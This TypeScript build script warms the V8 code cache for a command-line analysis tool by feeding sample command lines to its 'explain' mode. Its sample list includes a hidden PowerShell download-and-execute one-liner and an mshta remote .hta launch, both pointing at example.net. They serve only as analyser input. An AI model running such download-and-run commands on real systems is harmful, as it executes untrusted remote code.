import { join } from "node:path";
import { setFlagsFromString } from "node:v8";
import { codeFile, compile, runCompiled } from "../src/cli/compiled.ts";
import { IS_NODE_20, NODE_20 } from "../src/cli/node20.ts";
import { DIST, ROOT, writeWhole } from "./dist.ts";

/** Functions are compiled when they are first called, so what is kept is taken after lines and logs of each kind. */
const LINES = [
  'rundll32.exe "C:\\Program Files\\a b\\c.dll",Open 1',
  "cmd.exe /c start /b mshta http://example.net/a.hta & set X=1",
  "powershell -nop -w hidden -c \"iex (iwr 'http://example.net/a.ps1')\"",
  "find . -name '*.log' -exec sh -c 'wc -l > /tmp/x' ;",
];
const RUNS: Readonly<Record<string, readonly (readonly string[])[]>> = {
  explain: LINES.flatMap((line) => ["text", "json"].map((format) => ["explain", "--format", format, line])),
  scan: [["scan", "--threads", "1", "--format", "ndjson", "-q", join(ROOT, "examples/telemetry")]],
};

/** dist/NAME.cjs.*.code: what this Node compiled of a program, in a process of its own because the program writes and exits. */
const name = process.argv[2]!;
const program = join(DIST, `${name}.cjs`);
// As src/cli/main.ts does.
if (name !== "explain" && IS_NODE_20) for (const flag of NODE_20) setFlagsFromString(flag);
const script = compile(program);
for (const words of RUNS[name]!) {
  process.argv = [process.argv[0]!, program, ...words];
  await runCompiled(script, program).done;
}
// A scan has its heap kept small from some point on; compiled code is taken only under the flags that a scan begins with.
setFlagsFromString("--heap-growing-percent=0");
writeWhole(codeFile(program), script.createCachedData());
